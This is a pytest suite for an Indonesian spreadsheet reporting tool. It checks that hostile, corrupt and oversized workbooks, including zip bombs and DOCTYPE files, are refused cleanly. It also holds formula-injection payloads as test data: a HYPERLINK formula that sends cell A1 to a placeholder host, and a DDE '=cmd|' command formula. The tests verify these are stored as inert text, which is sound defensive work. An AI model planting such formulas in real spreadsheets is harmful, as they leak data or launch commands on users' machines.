"""Broken, hostile and huge files (tests/hostile_files.py), each run through every command
that reads a workbook: a plain Indonesian refusal naming the file, no traceback, the input
byte for byte unchanged, and — in a process of its own — memory and time within the
limits the README names (300 MiB, 10 s)."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hostile_files import Case, build_corpus, build_near_limits, stored_numbers
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from renaksi_xl import Renaksi, load
from renaksi_xl.berkas.grid import GridCell, GridRow, rows_from_text
from renaksi_xl.berkas.hitung import FileOutcome, recalculate_file
from renaksi_xl.berkas.legacy import parse_rows, parse_sheets
from renaksi_xl.berkas.package_check import package_problems
from renaksi_xl.berkas.reader import _plain_value, rows_from_values
from renaksi_xl.berkas.rekap import csv_safe
from renaksi_xl.berkas.templates import TemplateRequest, read_list
from renaksi_xl.berkas.writer import write_workbook
from renaksi_xl.cli import WORKER_DIED, main
from renaksi_xl.core.model import Source, Text
from renaksi_xl.core.sifat import with_inferred_sifat
from renaksi_xl.core.validate import validate
from renaksi_xl.errors import RenaksiError

REAL_RECALCULATE = recalculate_file

RUNNER = Path(__file__).with_name("robust_runner.py")
PEAK_MIB = 300
SECONDS = 10.0


@pytest.fixture(scope="session")
def good_workbook(reference: Renaksi, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A filled template workbook: the reference document imported."""
    path = tmp_path_factory.mktemp("good") / "baik.xlsx"
    write_workbook(with_inferred_sifat(reference), path)
    return path


@pytest.fixture(scope="session")
def corpus(good_workbook: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Case]:
    """Every generated case, by file name."""
    cases = build_corpus(tmp_path_factory.mktemp("corpus"), good_workbook)
    return {case.name: case for case in cases}


CASE_NAMES = [
    "kosong.xlsx",
    "terpotong.xlsx",
    "acak.xlsx",
    "acak-zip.xlsx",
    "terenkripsi.xlsx",
    "lama.xls",
    "lama-diganti-nama.xlsx",
    "opendocument.ods",
    "bom-zip.xlsx",
    "rasio.xlsx",
    "sel-banyak.xlsx",
    "sel-jauh.xlsx",
    "rumus-jauh.xlsx",
    "gabung-jauh.xlsx",
    "xml-rusak.xlsx",
    "utf8-rusak.xlsx",
    "doctype.xlsx",
    "lembar-hilang.xlsx",
    "deflate-rusak.xlsx",
    "sejuta-baris.xlsx",
    "kolom-banyak.xlsx",
    "sejuta-baris.txt",
    "biner.txt",
]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_commands(commands: list[list[str]]) -> dict[str, object]:
    """The commands in one fresh process (tests/robust_runner.py)."""
    done = subprocess.run(
        [sys.executable, str(RUNNER), json.dumps(commands)],
        capture_output=True,
        text=True,
        timeout=30 + SECONDS * len(commands),
        check=False,
    )
    assert done.returncode == 0, f"the process died ({done.returncode}): {done.stderr[-2000:]}"
    result: dict[str, object] = json.loads(done.stdout)
    return result


def commands_for(case: Path, folder: Path, output: Path) -> list[tuple[list[str], int]]:
    """Every command that reads ``case``, with the exit code a bad file must give: 3 for
    one file, 1 for the bulk commands (which report it among the others and go on)."""
    commands = [
        (["ringkas", str(case)], 3),
        (["validasi", str(case)], 3),
        (["impor", str(case), "-o", str(output / "impor.xlsx")], 3),
        (["rekap", str(folder), "-o", str(output / "rekap.xlsx")], 1),
    ]
    if case.suffix in (".xlsx", ".xlsm"):
        commands += [
            (["validasi", "--tandai", str(case)], 3),
            (["bersihkan", str(case)], 3),
            (["hitung", str(case)], 1),
            (["hitung", str(folder), "--jobs", "1"], 1),
        ]
    return commands


@pytest.mark.slow
@pytest.mark.parametrize("name", CASE_NAMES)
def test_every_command_refuses_a_bad_file_plainly(
    name: str, corpus: dict[str, Case], good_workbook: Path, tmp_path: Path
) -> None:
    case = corpus[name]
    folder = tmp_path / "masuk"
    folder.mkdir()
    bad = folder / case.path.name
    shutil.copyfile(case.path, bad)
    shutil.copyfile(good_workbook, folder / "baik.xlsx")
    output = tmp_path / "keluar"
    output.mkdir()
    before = {path.name: digest(path) for path in folder.iterdir()}
    expected = commands_for(bad, folder, output)
    report = run_commands([argv for argv, _ in expected])
    results = report["results"]
    assert isinstance(results, list)
    for (argv, code), result in zip(expected, results, strict=True):
        said = result["stdout"] + result["stderr"]
        assert result["code"] == code, (argv, said)
        assert "Traceback" not in said, (argv, said)
        assert bad.name in said, (argv, said)
        assert result["seconds"] <= SECONDS, (argv, result["seconds"])
    # the inputs are as they were, and nothing was written for the bad file
    assert {path.name: digest(path) for path in folder.iterdir() if path.name in before} == before
    assert not [p.name for p in folder.iterdir() if p.name.startswith(bad.stem + "-")]
    assert not (output / "impor.xlsx").exists()
    assert (output / "rekap.xlsx").exists()  # the good file's consolidation is written
    peak = report["peak_mib"]
    assert isinstance(peak, float) and peak <= PEAK_MIB, peak


# --- bulk commands: a dying worker, formats the tool cannot read -----------------------


def _dying_worker(source: Path, in_place: bool, *options: Any) -> FileOutcome:
    """What python-calamine did on a far cell: the process ends with no word."""
    if source.name == "mati.xlsx":
        os._exit(134)
    return REAL_RECALCULATE(source, in_place, *options)


def test_hitung_survives_a_worker_that_dies(
    good_workbook: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import multiprocessing

    import renaksi_xl.berkas.hitung

    assert multiprocessing.get_start_method() == "fork"  # the workers see the stand-in
    for name in ("a.xlsx", "mati.xlsx", "b.xlsx"):
        shutil.copyfile(good_workbook, tmp_path / name)
    (tmp_path / "lama.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100))
    (tmp_path / "kalk.ods").write_bytes(b"PK\x03\x04" + bytes(100))
    monkeypatch.setattr(renaksi_xl.berkas.hitung, "recalculate_file", _dying_worker)
    assert main(["hitung", str(tmp_path), "--jobs", "2"]) == 1
    out = capsys.readouterr().out
    lines = {line.split()[0]: line for line in out.splitlines() if line.startswith(str(tmp_path))}
    assert set(lines) == {
        str(tmp_path / n) for n in ("a.xlsx", "b.xlsx", "mati.xlsx", "lama.xls", "kalk.ods")
    }
    assert " ok " in lines[str(tmp_path / "a.xlsx")] and " ok " in lines[str(tmp_path / "b.xlsx")]
    assert WORKER_DIED in lines[str(tmp_path / "mati.xlsx")]
    assert "format .xls tidak dapat dibaca" in lines[str(tmp_path / "lama.xls")]
    assert "format .ods tidak dapat dibaca" in lines[str(tmp_path / "kalk.ods")]
    assert "2 berhasil, 3 gagal, 5 berkas" in out
    assert not (tmp_path / "mati-dihitung.xlsx").exists()


INJECTION = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'


def test_rekap_writes_the_readable_files_lists_the_others_and_runs_no_formula(
    reference: Renaksi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "masuk"
    folder.mkdir()
    hostile = dataclasses.replace(reference, opd=Text(INJECTION))
    write_workbook(with_inferred_sifat(hostile), folder / "+cmd.xlsx")
    write_workbook(with_inferred_sifat(reference), folder / "sidayu.xlsx")
    (folder / "rusak.xlsx").write_bytes(b"PK\x03\x04 bukan zip")
    (folder / "lama.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100))
    target = tmp_path / "rekap.xlsx"
    assert main(["rekap", str(folder), "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert "rusak.xlsx" in err and "lama.xls" in err and "Traceback" not in err
    book = load_workbook(target)
    rekap = book["Rekap"]
    opd_cells = [rekap.cell(row=r, column=1) for r in (2, 3)]
    assert {c.value.casefold() for c in opd_cells} == {  # type: ignore[union-attr]
        INJECTION.casefold(),
        "kecamatan sidayu",
    }
    assert all(c.data_type == "s" for c in opd_cells)  # text, not a live formula
    assert not [
        c.coordinate
        for s in book.worksheets
        for row in s.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    failed = book["Berkas gagal"]
    assert [failed.cell(row=1, column=c).value for c in (1, 2)] == ["Berkas", "Alasan"]
    assert sorted(Path(str(failed.cell(row=r, column=1).value)).name for r in (2, 3)) == [
        "lama.xls",
        "rusak.xlsx",
    ]
    # the CSV: OWASP's leading apostrophe, and whole rupiah
    csv_target = tmp_path / "rekap.csv"
    assert main(["rekap", str(folder), "-o", str(csv_target)]) == 1
    text = csv_target.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, body = rows[0], rows[1:]
    by_file = {row[header.index("Berkas")]: row for row in body}
    assert by_file["'+cmd.xlsx"][0].casefold() == "'" + INJECTION.casefold()
    assert by_file["sidayu.xlsx"][header.index("Anggaran (Rp)")] == "1021600000"
    program = header.index("Program: Pelayanan Administrasi Perkantoran")
    assert by_file["sidayu.xlsx"][program] == "287238000"  # not 287238000,0


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kecamatan Sidayu", "Kecamatan Sidayu"),
        (-5, -5),
    ],
)
def test_csv_fields_never_start_a_formula(value: object, safe: object) -> None:
    assert csv_safe(value) == safe


def test_the_template_writer_keeps_formula_text_as_text(tmp_path: Path) -> None:
    request = TemplateRequest(
        opd=INJECTION, tahun=2021, tempat="=cmd|'/c calc'!A1", penandatangan="=1+1"
    )
    path = write_workbook(request.model(), tmp_path / request.file_name)
    book = load_workbook(path)
    formulas = {
        c.value
        for s in book.worksheets
        for row in s.iter_rows()
        for c in row
        if c.data_type == "f" and isinstance(c.value, str)
    }
    assert not [f for f in formulas if "HYPERLINK" in f or "cmd" in f or f == "=1+1"]
    kegiatan = book["Kegiatan"]
    texts = [c for row in kegiatan.iter_rows() for c in row if c.value == "=1+1"]
    assert texts and all(c.data_type == "s" for c in texts)


# --- numbers ------------------------------------------------------------------------------


def test_numbers_no_spreadsheet_can_hold_are_unreadable_values(
    good_workbook: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = stored_numbers(
        good_workbook, tmp_path / "tak-hingga.xlsx", {"O9": b"1e309", "K9": b"INF", "O13": b"NaN"}
    )
    assert main(["validasi", str(path), "--pilih", "RNX102"]) == 1
    out = capsys.readouterr().out
    for cell in ("Kegiatan!O9", "Kegiatan!K9", "Kegiatan!O13"):
        assert f"RNX102 {cell}:" in out
    assert main(["ringkas", str(path)]) == 0
    assert main(["hitung", str(path)]) == 0
    # marking patches the package (openpyxl, which cannot open a file holding INF, is not
    # involved): the three cells are marked and the result passes the checker
    assert main(["validasi", "--tandai", "--pilih", "RNX102", str(path)]) == 1
    marked = path.with_name("tak-hingga-divalidasi.xlsx")
    assert package_problems(marked) == []
    notes = zipfile.ZipFile(marked).namelist()
    assert any("comments" in name for name in notes)


def test_huge_numbers_are_recalculated(good_workbook: Path, tmp_path: Path) -> None:
    path = stored_numbers(good_workbook, tmp_path / "besar.xlsx", {"O9": b"1e300", "K9": b"1e300"})
    assert main(["hitung", str(path)]) == 0
    values = CalamineWorkbook.from_path(str(tmp_path / "besar-dihitung.xlsx"))
    grid = values.get_sheet_by_name("Kegiatan").to_python()
    assert grid[8][14] == 1e300 and grid[7][14] == pytest.approx(1e300)  # O9 and its subtotal


# --- text -----------------------------------------------------------------------------------


def test_file_names_from_any_opd_name() -> None:
    long_name = "Dinas Pendidikan dan Kebudayaan " * 12
    name = TemplateRequest(long_name, 2021).file_name
    assert len(name.encode()) < 200 and name.startswith("renaksi-dinas-pendidikan-dan-")
    assert name != TemplateRequest(long_name + "Kota", 2021).file_name
    javanese = {TemplateRequest(opd, 2021).file_name for opd in ("ꦱꦶꦝꦪꦸ", "ꦒꦿꦺꦱꦶꦏ꧀", "سيدايو")}
    assert len(javanese) == 3 and all(n.startswith("renaksi-opd-") for n in javanese)
    assert (
        TemplateRequest("Dinas Perhubungan", 2021).file_name
        == "renaksi-dinas-perhubungan-2021.xlsx"
    )
    assert TemplateRequest("Café Élysée", 2021).file_name == "renaksi-cafe-elysee-2021.xlsx"


def test_a_long_opd_name_is_kept_whole_in_the_workbook(tmp_path: Path) -> None:
    long_name = "Dinas Pemberdayaan Masyarakat dan Desa " * 8
    assert main(["template", "--opd", long_name, "--tahun", "2021", "-o", str(tmp_path)]) == 0
    (written,) = tmp_path.glob("*.xlsx")
    renaksi = load(written)
    assert renaksi.opd is not None and renaksi.opd.value.casefold() == long_name.strip().casefold()


def test_control_characters_in_a_name_are_dropped(tmp_path: Path) -> None:
    code = main(
        ["template", "--opd", "Dinas\x01 Sosial\x1b", "--tahun", "2021", "-o", str(tmp_path)]
    )
    assert code == 0
    renaksi = load(tmp_path / "renaksi-dinas-sosial-2021.xlsx")
    assert renaksi.opd is not None and renaksi.opd.value == "Dinas Sosial"


LIST = "OPD;TAHUN;TEMPAT\nDinas Sosial;2021;Gresik\nKecamatan Cerme;2021;Cerme\n"


@pytest.mark.parametrize(
    ("encoding", "content"),
    [
        ("utf-16", LIST),  # Excel's "Unicode text", with its byte-order mark
        ("utf-16-le", LIST),
        ("cp1252", LIST.replace("Cerme", "Cermé")),
        ("utf-8-sig", LIST),
    ],
)
def test_opd_lists_in_the_encodings_offices_save(
    encoding: str, content: str, tmp_path: Path
) -> None:
    listing = tmp_path / "daftar.csv"
    listing.write_bytes(content.encode(encoding))
    requests, errors = read_list(listing)
    assert errors == []
    assert [(r.opd, r.tahun) for r in requests] == [
        ("Dinas Sosial", 2021),
        (content.splitlines()[2].split(";")[0], 2021),
    ]


def test_a_text_file_with_a_nul_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "renaksi.txt"
    path.write_bytes(b"RENCANA AKSI\nKECAMATAN SIDAYU\x00\n")
    assert main(["ringkas", str(path)]) == 3
    assert "renaksi.txt': bukan berkas teks (berisi data biner)" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"OPD;TAHUN\n" + b'"' + b"x" * 200_000 + b'";2021\n', "isian lebih panjang dari 128 KB"),
        (b"OPD;TAHUN\n" + b"Dinas;2021\n" * 20_001, "paling banyak 20000 baris"),
    ],
)
def test_csv_lists_beyond_reason_are_refused(
    content: bytes, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listing = tmp_path / "daftar.csv"
    listing.write_bytes(content)
    assert main(["template", "--daftar", str(listing), "-o", str(tmp_path / "out")]) == 3
    err = capsys.readouterr().err
    assert "daftar.csv" in err and message in err and "Traceback" not in err
    assert not (tmp_path / "out").exists()


def test_a_damaged_xlsx_list_is_refused(
    corpus: dict[str, Case], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listing = tmp_path / "daftar.xlsx"
    shutil.copyfile(corpus["xml-rusak.xlsx"].path, listing)
    assert main(["template", "--daftar", str(listing), "-o", str(tmp_path / "out")]) == 3
    err = capsys.readouterr().err
    assert "daftar.xlsx" in err and "bukan XML yang sah" in err


# --- Ctrl-C ---------------------------------------------------------------------------------


STARTING = (
    "import sys; print('mulai', flush=True); sys.argv[1:] = sys.argv[2:]; "
    "import runpy; runpy.run_module('renaksi_xl', run_name='__main__')"
)
"""Python itself up (it prints), then the ``renaksi`` command as ``python -m renaksi_xl``."""


@pytest.mark.parametrize("delay", [0.02, 0.1, 0.3, 1.0])
def test_ctrl_c_at_any_moment_ends_without_a_traceback(
    delay: float, good_workbook: Path, tmp_path: Path
) -> None:
    import signal
    import time

    source = tmp_path / "baik.xlsx"
    shutil.copyfile(good_workbook, source)
    before = digest(source)
    process = subprocess.Popen(
        [sys.executable, "-c", STARTING, "-", "validasi", "--tandai", str(source)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None and process.stdout.readline() == "mulai\n"
    time.sleep(delay)  # from the first import of the package to well into the command
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert "Traceback" not in err, err
    assert process.returncode in (130, 1), (process.returncode, err)  # stopped, or done
    if process.returncode == 130:
        assert err.strip().endswith("Dibatalkan.")
    assert digest(source) == before
    assert not list(tmp_path.glob(".*"))  # no temporary file left behind


# --- fuzzing the old-layout reader ------------------------------------------------------------

WORDS = [
    "SASARAN STRATEGIS",
    "PROGRAM",
    "KEGIATAN",
    "INDIKATOR",
    "INDIKATOR KINERJA",
    "TARGET",
    "TARGET TAHUNAN",
    "TW I",
    "TW II",
    "TW III",
    "TW IV",
    "ANGGARAN",
    "Jumlah Anggaran",
    "Jumlah komulatif",
    "Realisasi",
    "Kecamatan Sidayu",
    "RENCANA AKSI TAHUN 2020",
    "1.021.600.000",
    "Rp 12.500.000",
    "82,5%",
    "25 Peserta/122 Kali",
    "6 Org ( 3 bln )",
    "-",
    "1",
    "2",
    "=SUM(A1:A3)",
    "CAMAT SIDAYU",
    "NIP. 196710201988031009",
    "Gresik, 4 Januari 2021",
    "7.01.01.2.01.0001",
]
cell_values = st.one_of(
    st.none(),
    st.sampled_from(WORDS),
    st.text(max_size=20),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 1, 1)),
    st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 1, 1)),
    st.times(),
)
grids = st.lists(
    st.lists(st.tuples(cell_values, st.booleans()), max_size=16), min_size=1, max_size=60
)


def _rows(grid: list[list[tuple[object, bool]]], sheet: str) -> list[GridRow]:
    """A sheet as the openpyxl reader gives it: values made plain, bold kept."""
    rows = []
    for number, cells in enumerate(grid, start=1):
        made = tuple(
            GridCell(_plain_value(value), None, bold, None, sheet, number, column)
            for column, (value, bold) in enumerate(cells, start=1)
        )
        if any(not c.is_blank for c in made):
            rows.append(GridRow(made, Source(sheet=sheet, cell=f"A{number}"), sheet, number))
    return rows


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sheets=st.lists(grids, min_size=1, max_size=3))
def test_the_old_layout_reader_gives_a_model_or_a_plain_refusal(
    sheets: list[list[list[tuple[object, bool]]]],
) -> None:
    rows = [_rows(grid, f"Lembar{n}") for n, grid in enumerate(sheets, start=1)]
    try:
        renaksi = parse_sheets(rows, sumber="acak.xlsx")
    except RenaksiError as error:
        assert str(error)
        return
    assert isinstance(renaksi, Renaksi)
    validate(renaksi)  # and the checks take whatever it read


@settings(max_examples=100, deadline=None)
@given(grid=grids)
def test_template_sheets_of_any_content_give_a_model_or_a_plain_refusal(
    grid: list[list[tuple[object, bool]]],
) -> None:
    values = [[value if value is not None else "" for value, _ in row] for row in grid]
    sheets = [rows_from_values(name, values) for name in ("Sasaran", "Program", "Kegiatan")]
    try:
        renaksi = parse_sheets(sheets, sumber="templat.xlsx")
    except RenaksiError as error:
        assert str(error)
        return
    validate(renaksi)


@settings(max_examples=100, deadline=None)
@given(
    lines=st.lists(
        st.lists(st.one_of(st.sampled_from(WORDS), st.text(max_size=12)), max_size=10), max_size=60
    )
)
def test_old_layout_text_gives_a_model_or_a_plain_refusal(lines: list[list[str]]) -> None:
    text = "\n".join("\t".join(cells) for cells in lines)
    try:
        renaksi = parse_rows(rows_from_text(text), sumber="acak.txt")
    except RenaksiError as error:
        assert str(error)
        return
    validate(renaksi)


@pytest.mark.slow
def test_files_just_inside_the_limits_are_read_in_bounded_memory_and_time(
    good_workbook: Path, tmp_path: Path
) -> None:
    cases = build_near_limits(tmp_path / "dekat", good_workbook)
    for case in cases:
        argv = [
            ["ringkas", str(case.path)],
            ["impor", str(case.path), "-o", str(tmp_path / f"{case.path.stem}-impor.xlsx")],
        ]
        if case.workbook:
            argv += [["validasi", "--tandai", str(case.path)], ["hitung", str(case.path)]]
        report = run_commands(argv)
        results = report["results"]
        assert isinstance(results, list)
        for result in results:
            said = result["stdout"] + result["stderr"]
            assert result["code"] in (0, 1, 3) and "Traceback" not in said, (case.name, said)
            limit_hit = ("terlalu jauh", "terlalu banyak", "terurai menjadi", "dimampatkan")
            assert not any(words in said for words in limit_hit), (case.name, said)
            assert result["seconds"] <= SECONDS, (case.name, result["argv"], result["seconds"])
        peak = report["peak_mib"]
        assert isinstance(peak, float) and peak <= PEAK_MIB, (case.name, peak)


def _odd_files(good: Path, folder: Path, reference: Renaksi) -> list[Path]:
    """Readable files with odd content: numbers no spreadsheet holds, an OPD name far too
    long for a file name, one that looks like a formula, one in Javanese script."""
    folder.mkdir()
    made = [stored_numbers(good, folder / "tak-hingga.xlsx", {"O9": b"1e309", "K9": b"1e300"})]
    names = {
        "nama-panjang.xlsx": "Dinas Pemberdayaan Masyarakat dan Desa " * 10,
        "nama-rumus.xlsx": INJECTION,
        "nama-jawa.xlsx": "ꦏꦼꦕꦩꦠꦤ꧀ ꦱꦶꦝꦪꦸ",
    }
    for file_name, opd in names.items():
        model = with_inferred_sifat(dataclasses.replace(reference, opd=Text(opd)))
        made.append(write_workbook(model, folder / file_name))
    return made


@pytest.mark.slow
def test_odd_but_readable_files_go_through_every_command(
    reference: Renaksi, good_workbook: Path, tmp_path: Path
) -> None:
    files = _odd_files(good_workbook, tmp_path / "masuk", reference)
    before = {path: digest(path) for path in files}
    output = tmp_path / "keluar"
    output.mkdir()
    argv: list[list[str]] = [
        ["rekap", str(tmp_path / "masuk"), "-o", str(output / "rekap.xlsx")],
        ["rekap", str(tmp_path / "masuk"), "-o", str(output / "rekap.csv")],
    ]
    for path in files:
        argv += [
            ["ringkas", str(path)],
            ["validasi", str(path)],
            ["impor", str(path), "-o", str(output / f"{path.stem}-impor.xlsx")],
            ["hitung", str(path)],
        ]
    report = run_commands(argv)
    results = report["results"]
    assert isinstance(results, list)
    for result in results:
        said = result["stdout"] + result["stderr"]
        assert result["code"] in (0, 1), (result["argv"], said)
        assert "Traceback" not in said and result["seconds"] <= SECONDS, result["argv"]
    assert {path: digest(path) for path in files} == before
    assert len(list(output.glob("*-impor.xlsx"))) == 4
    assert len(list((tmp_path / "masuk").glob("*-dihitung.xlsx"))) == 4
    peak = report["peak_mib"]
    assert isinstance(peak, float) and peak <= PEAK_MIB
